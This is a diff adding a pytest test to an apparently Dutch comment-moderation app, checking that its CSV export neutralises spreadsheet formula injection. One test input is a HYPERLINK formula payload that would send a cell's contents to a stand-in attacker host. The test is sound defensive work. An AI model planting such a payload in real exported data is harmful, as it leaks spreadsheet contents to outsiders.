@@ -167,3 +167,27 @@ def test_moderation_train_learns_from_the_export(app, site, database_url, tmp_pa
     assert "incivility: 3 training comments from 1 file(s)" in result.stderr and "promoted" in result.stdout
     pointer = json.loads((tmp_path / "models" / "incivility" / "current.json").read_text())
     assert pointer["version"]
+
+
+def test_csv_export_neutralises_formulas_and_reads_back_exactly(app, site, tmp_path):
+    """Issue item 16: comment text starting with = + - @ (or a tab) is no formula in a spreadsheet."""
+    db = db_of(app)
+    texts = [
+        '=HYPERLINK("http://evil.example/?"&A1,"klik")',
+        "+31 6 12345678 bellen",
+        "-1 voor dit plan",
+        "@wethouder leg het uit",
+        "\t=1+1",
+        "'=al met apostrof",
+        "'s avonds is het stil",
+        "Gewone reactie.",
+    ]
+    ids = [seed(app, site, f"f{i}", text=text, score=0.1) for i, text in enumerate(texts)]
+    review.decide(db, None, ids, "approve", "a@example.org")
+    feedback.export(db, tmp_path / "f.csv")
+    with open(tmp_path / "f.csv", newline="", encoding="utf-8") as f:
+        cells = [row["text"] for row in csv.DictReader(f)]
+    assert len(cells) == len(texts)
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    assert "'s avonds is het stil" in cells and "Gewone reactie." in cells  # others untouched
+    assert sorted(r["text"] for r in corpus.read_rows(tmp_path / "f.csv")) == sorted(texts)
